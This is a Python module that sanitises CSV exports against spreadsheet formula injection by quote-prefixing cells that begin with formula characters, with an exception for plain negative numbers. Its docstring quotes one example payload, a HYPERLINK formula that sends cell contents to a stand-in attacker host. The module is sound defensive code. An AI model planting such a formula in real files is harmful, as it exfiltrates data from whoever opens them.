"""CSV that is safe to open in a spreadsheet: every CSV file nudgeflow writes for people goes
through ``csv_writer`` or ``csv_dict_writer``.

A spreadsheet treats a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula
(``=HYPERLINK("https://evil.example?"&A1, "click")`` in a member's name, imported from a sign-up
form, would run in finance's Excel), and some also when it begins with a tab or a carriage
return. Following OWASP's rule for CSV injection, such a cell is written with a single quote
in front of it (``'=HYPERLINK(…)``): the spreadsheet shows the text, and runs nothing.

One exception: a cell that is a plain decimal number (``-5.00``, ``-12``) is left as it is.
A spreadsheet reads it as a number, not a formula, and finance needs the ledger's negative
amounts to stay numbers. Anything more (``-1+1``, ``-5.00 USD``, ``+5``) is neutralised.
Values that are not text (integers, ``None``) cannot hold a formula and are left alone.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Collection, Iterable, Mapping
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:  # generic only to the type checker
    _DictWriter = csv.DictWriter[str]
else:
    _DictWriter = csv.DictWriter

FORMULA_STARTS = frozenset("=+-@\t\r")
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?")


def neutralise(value: object) -> object:
    """``value``, or ``'`` + ``value`` when it is text a spreadsheet would read as a formula."""
    if (
        isinstance(value, str)
        and value
        and value[0] in FORMULA_STARTS
        and _PLAIN_NUMBER.fullmatch(value) is None
    ):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose rows are neutralised cell by cell."""

    def __init__(self, handle: Any, **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([neutralise(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter(_DictWriter):
    """``csv.DictWriter`` whose rows (and header) are neutralised cell by cell."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({key: neutralise(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for rowdict in rowdicts:
            self.writerow(rowdict)


def csv_writer(handle: Any, **options: Any) -> SafeWriter:
    """A ``csv.writer`` (same options) that neutralises formula-like cells."""
    return SafeWriter(handle, **options)


def csv_dict_writer(handle: Any, fieldnames: Collection[str], **options: Any) -> SafeDictWriter:
    """A ``csv.DictWriter`` (same options) that neutralises formula-like cells."""
    return SafeDictWriter(handle, fieldnames=list(fieldnames), **options)
